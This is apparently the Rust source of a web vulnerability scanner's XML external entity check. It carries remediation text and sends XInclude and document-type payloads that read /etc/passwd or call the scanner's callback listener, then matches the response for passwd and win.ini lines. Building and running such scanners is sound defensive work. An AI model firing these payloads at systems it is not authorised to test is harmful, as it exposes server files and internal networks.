//! XML whose document type makes the reader load what it names.

mod document;

use std::collections::BTreeSet;

use futures_util::FutureExt;
use futures_util::future::BoxFuture;

use self::document::{Sees, Slot, WAYS, Way};
use super::facts::facts;
use crate::checks::run::points_of;
use crate::checks::{About, Bench, Check, Entry, callback};
use crate::point::{Place, Point, Put};
use crate::proof::{Expect, Proof, Seen};

/// See [`About`].
pub(super) struct Xxe;

static ABOUT: About = About {
    name: "xml-external-entity",
    qids: &[990_007],
    means: "XML that a visitor sends is read by a parser that loads external entities, document types or included documents.",
    matters: "The sender reads files of the server, lets it request addresses in its own network, and can make it use up its \
              memory.",
    remedy: "Configure the parser to refuse document types altogether; where that can't be, switch off external general \
             entities, external parameter entities, the loading of document types, and XInclude.",
    technique: "A document type is added to XML bodies, to fields and uploaded files that hold XML, and to bodies of other kinds \
                as XML in their place: its entities name a file with a known form, the listener of the scanner, or a file that \
                is nowhere and whose name the error tells. The same document with an entity of its own must not show it. Into \
                other parameters an XInclude element is put.",
    source: "CWE-611; OWASP XML External Entity Prevention; XML 1.0, 4.2.2",
};

const QID: u32 = 990_007;

/// A file's line that no request has.
const PASSWD: &str = r"root:[^:\n<]{0,40}:0:0:";
const WIN_INI: &str = r"(?i)\[fonts\]|\[extensions\]|for 16-bit app support";

/// For values that are put into a document of the application's own.
const INCLUDE: &str = "<zq xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"><xi:fallback/></xi:include></zq>";
const INCLUDE_CALL: &str = "<zq xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"http://{{callback}}/{{token}}\"><xi:fallback/></xi:include></zq>";

impl Check for Xxe {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn probe<'a>(
        &'a self,
        bench: &'a Bench<'a>,
        entry: &'a Entry,
        point: &'a Point,
    ) -> Option<BoxFuture<'a, ()>> {
        let is_far = matches!(point.place, Place::Header | Place::Path(_) | Place::FileName(_));
        (!is_far).then(|| probe(bench, entry, point).boxed())
    }

    fn try_entry<'a>(&'a self, bench: &'a Bench<'a>, entry: &'a Entry) -> Option<BoxFuture<'a, ()>> {
        let slots = Slot::of_entry(entry);
        (!slots.is_empty()).then(|| {
            async move {
                for slot in slots {
                    if attack(bench, &slot).await {
                        return;
                    }
                }
            }
            .boxed()
        })
    }

    fn try_site<'a>(&'a self, bench: &'a Bench<'a>) -> Option<BoxFuture<'a, ()>> {
        bench.listener?;
        Some(late(bench).boxed())
    }
}

async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
    if let Some(slot) = Slot::of_point(entry, point)
        && attack(bench, &slot).await
    {
        return;
    }
    let Some(known) = facts(bench, entry, point).await else { return };
    if known.matters || known.breaks || known.echoes {
        include(bench, entry, point).await;
    }
}

/// Tries the ways that suit a slot until one is proven.
async fn attack(bench: &Bench<'_>, slot: &Slot<'_>) -> bool {
    for way in slot.ways() {
        let is_proven = match way.sees {
            Sees::Call => match suspect_call(bench, slot, way).await {
                Some(true) => prove_call(bench, slot, way).await,
                Some(false) => false,
                None => return false,
            },
            Sees::Text(pattern) => {
                // One odd value may be refused where another is shown.
                let alone = if way.is_common && slot.is_known() { slot.texts().min(4) } else { 0 };
                let alone = if alone > 1 { alone } else { 0 };
                let mut is_proven = false;
                for nth in std::iter::once(None).chain((0..alone).map(Some)) {
                    is_proven = is_proven || prove_text(bench, slot, way, nth, pattern).await;
                }
                is_proven
            }
        };
        if is_proven {
            return true;
        }
    }
    false
}

/// Sends a document that names the listener; whether it was called, none when the target does not answer.
async fn suspect_call(bench: &Bench<'_>, slot: &Slot<'_>, way: &Way) -> Option<bool> {
    let token = callback::token(slot.entry, &slot.label(), way.dtd);
    let Some(document) = callback::filled(bench, &slot.document(way, None), &token) else {
        return Some(false);
    };
    bench.send_of(slot.entry, &slot.request(&document)).await.ok()?;
    Some(callback::was_called(bench, &token))
}

/// A call is proof enough; a file that is shown says more.
async fn prove_call(bench: &Bench<'_>, slot: &Slot<'_>, way: &Way) -> bool {
    for file in WAYS.iter().filter(|way| matches!(way.sees, Sees::Text(PASSWD))) {
        if prove_text(bench, slot, file, None, PASSWD).await {
            return true;
        }
    }
    let document = slot.document(way, None);
    let control = slot.request(&slot.harmless());
    match callback::prove(bench, slot.entry, slot.request(&document), control).await {
        Some(proof) => report(bench, slot, &document, proof),
        None => false,
    }
}

async fn prove_text(
    bench: &Bench<'_>,
    slot: &Slot<'_>,
    way: &Way,
    nth: Option<usize>,
    pattern: &str,
) -> bool {
    let document = slot.document(way, nth);
    let attack = slot.request(&document);
    let expect = Expect::BodyMatches(pattern.to_owned());
    let Ok(response) = bench.send_of(slot.entry, &attack).await else { return false };
    if expect.find(&Seen { response, ..Seen::default() }).is_none() {
        return false;
    }
    let control = slot.request(&slot.unused(way));
    match bench.prove(slot.entry.replay(attack, expect, control)).await {
        Ok(proof) => report(bench, slot, &document, proof),
        Err(_) => false,
    }
}

fn report(bench: &Bench<'_>, slot: &Slot<'_>, document: &str, proof: Proof) -> bool {
    match slot.point() {
        Some(point) => bench.report_at(QID, slot.entry, Some((&point, document)), proof),
        None => bench.report(QID, slot.entry, proof),
    }
    true
}

/// One request tells whether an included file is shown, or the listener is called.
async fn include(bench: &Bench<'_>, entry: &Entry, point: &Point) {
    let at = |payload: &str| match point.place {
        Place::Xml(_) => entry.request.with(point, Put::Raw(payload)),
        _ => entry.request.with(point, Put::Text(payload)),
    };
    let token = callback::token_at(entry, point, INCLUDE_CALL);
    let call = callback::filled(bench, INCLUDE_CALL, &token).unwrap_or_default();
    let Ok(response) = bench.send_of(entry, &at(&format!("{INCLUDE}{call}"))).await else { return };
    let expect = Expect::BodyMatches(PASSWD.to_owned());
    if expect.find(&Seen { response, ..Seen::default() }).is_some() {
        let control = at(&INCLUDE.replace("/etc/passwd", "/redoubt-nowhere"));
        if let Ok(proof) = bench.prove(entry.replay(at(INCLUDE), expect, control)).await {
            return bench.report_at(QID, entry, Some((point, INCLUDE)), proof);
        }
    }
    if callback::was_called(bench, &token) {
        let control = at(&INCLUDE_CALL.replace("xi:include", "xi:included"));
        if let Some(proof) = callback::prove(bench, entry, at(INCLUDE_CALL), control).await {
            bench.report_at(QID, entry, Some((point, INCLUDE_CALL)), proof);
        }
    }
}

/// Calls that came when the answer was long given: documents are often read by a job of their own.
async fn late(bench: &Bench<'_>) {
    callback::wait(bench).await;
    let mut told = BTreeSet::new();
    for entry in bench.entries {
        let points = points_of(entry, bench);
        let fields = points.iter().filter_map(|point| Slot::of_point(entry, point));
        for slot in Slot::of_entry(entry).into_iter().chain(fields) {
            let called =
                |way: &&&Way| callback::was_called(bench, &callback::token(entry, &slot.label(), way.dtd));
            let ways = slot.ways();
            let Some(way) = ways.iter().filter(|way| matches!(way.sees, Sees::Call)).find(called) else {
                continue;
            };
            let path = &entry.request.url.path;
            let is_told = match slot.point() {
                Some(point) => bench.sink.has_at(&[QID], path, &point.name),
                None => bench.sink.has(&[QID], path),
            };
            if !is_told && told.insert((path.clone(), slot.label())) {
                prove_call(bench, &slot, way).await;
            }
        }
    }
}

#[cfg(test)]
mod tests;
